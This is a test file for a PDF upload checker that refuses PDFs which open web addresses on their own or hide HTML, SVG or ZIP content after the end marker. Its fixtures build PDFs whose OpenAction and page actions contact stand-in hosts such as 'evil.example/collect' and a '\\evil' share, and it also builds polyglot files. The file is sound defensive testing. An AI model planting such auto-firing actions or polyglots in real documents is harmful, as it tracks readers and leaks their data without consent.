import { type PDFDict, PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { translators } from '../plugins/locale';
import { checkPdf } from './pdfContent';

/**
 * Issue 22 item 9: PDFs that open an address by themselves are refused; a genuine PDF with bytes
 * after its end marker (scanners write them) is kept when it parses. The PDFs are made here with
 * pdf-lib, one page each, with what a test adds to its catalog or page.
 */
const pdfWith = async (
  addTo: (document: PDFDocument) => void = () => {},
  useObjectStreams = false,
): Promise<Buffer> => {
  const document = await PDFDocument.create({ updateMetadata: false });
  document.addPage([200, 200]);
  addTo(document);
  return Buffer.from(await document.save({ useObjectStreams }));
};

const action = (document: PDFDocument, entries: Record<string, unknown>) =>
  document.context.obj({ Type: 'Action', ...entries } as never) as unknown as PDFDict;
const uri = (document: PDFDocument) =>
  action(document, { S: 'URI', URI: PDFString.of('https://evil.example/track') });
const submitForm = (document: PDFDocument) =>
  action(document, { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') });

/** The refusal's English message for the label `file`, or null when the PDF is kept. */
const verdict = async (bytes: Buffer) => {
  const refusal = await checkPdf(bytes);
  return refusal ? refusal(translators.en, 'file') : null;
};
const opensAddress = /opens a web address/;

describe('PDFs that open an address by themselves', () => {
  it('refuses an OpenAction that opens a URI or submits a form, inline or by reference', async () => {
    const inline = await pdfWith((document) => {
      document.catalog.set(PDFName.of('OpenAction'), uri(document));
    });
    const byReference = await pdfWith((document) => {
      document.catalog.set(PDFName.of('OpenAction'), document.context.register(submitForm(document)));
    });
    expect(String(await verdict(inline))).toMatch(opensAddress);
    expect(String(await verdict(byReference))).toMatch(opensAddress);
  });

  it('refuses one hidden in a compressed object stream or at the end of a /Next chain', async () => {
    const inObjectStream = await pdfWith((document) => {
      document.catalog.set(PDFName.of('OpenAction'), document.context.register(uri(document)));
    }, true);
    expect(inObjectStream.toString('latin1')).not.toContain('/URI');
    const chained = await pdfWith((document) => {
      const last = document.context.register(submitForm(document));
      const middle = action(document, { S: 'GoTo', D: [document.getPage(0).ref, 'Fit'] });
      middle.set(PDFName.of('Next'), document.context.obj([last]));
      document.catalog.set(PDFName.of('OpenAction'), middle);
    });
    expect(String(await verdict(inObjectStream))).toMatch(opensAddress);
    expect(String(await verdict(chained))).toMatch(opensAddress);
  });

  it('refuses additional actions (AA) of the document or a page that open a URI, import data or another file', async () => {
    const documentClose = await pdfWith((document) => {
      document.catalog.set(PDFName.of('AA'), document.context.obj({ WC: uri(document) }));
    });
    const pageOpen = await pdfWith((document) => {
      document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: submitForm(document) }));
    });
    const importData = await pdfWith((document) => {
      document.catalog.set(
        PDFName.of('OpenAction'),
        action(document, { S: 'ImportData', F: PDFString.of('\\\\evil\\share\\data.fdf') }),
      );
    });
    const remoteGoTo = await pdfWith((document) => {
      document.catalog.set(
        PDFName.of('OpenAction'),
        action(document, { S: 'GoToR', F: PDFString.of('https://evil.example/other.pdf'), D: [0, 'Fit'] }),
      );
    });
    for (const bytes of [documentClose, pageOpen, importData, remoteGoTo]) {
      expect(String(await verdict(bytes))).toMatch(opensAddress);
    }
  });

  it('keeps an OpenAction that only shows a page, and a link a reader must click', async () => {
    const goToPage = await pdfWith((document) => {
      document.catalog.set(PDFName.of('OpenAction'), document.context.obj([document.getPage(0).ref, 'Fit']));
    });
    const link = await pdfWith((document) => {
      const annotation = document.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 100, 20],
        A: uri(document),
      });
      document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([annotation]));
    });
    expect(await verdict(goToPage)).toBeNull();
    expect(await verdict(link)).toBeNull();
  });
});

describe('bytes after the end marker', () => {
  it('keeps a genuine PDF followed by what scanners write (padding, line ends, a trailer comment)', async () => {
    const pdf = await pdfWith();
    for (const tail of [
      Buffer.alloc(512),
      Buffer.from('\r\n\r\n'),
      Buffer.from('\n% scanned by ScanStation 3000\n'),
      Buffer.concat([Buffer.from('\n'), Buffer.from([0x1a, 0xff, 0xfe, 0x00, 0x7f])]),
    ]) {
      expect(await verdict(Buffer.concat([pdf, tail]))).toBeNull();
    }
  });

  it('still refuses an HTML page or an archive riding after the end (a polyglot)', async () => {
    const pdf = await pdfWith();
    const html = Buffer.from('\n<!DOCTYPE html><html><body><p>hello</p></body></html>\n');
    const svg = Buffer.from('\n<svg xmlns="http://www.w3.org/2000/svg"></svg>');
    const zip = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(26)]);
    for (const tail of [html, svg, zip]) {
      expect(String(await verdict(Buffer.concat([pdf, tail])))).toMatch(/not a readable PDF/);
    }
  });

  it('refuses padding after an end marker when what comes before is no PDF pdf-lib can parse', async () => {
    const noise = Buffer.from(Array.from({ length: 600 }, (_, index) => (index * 37 + 11) % 256));
    const fake = Buffer.concat([
      Buffer.from('%PDF-1.7\n'),
      noise,
      Buffer.from('\n%%EOF\n'),
      Buffer.alloc(64),
    ]);
    expect(String(await verdict(fake))).toMatch(/not a readable PDF/);
  });
});
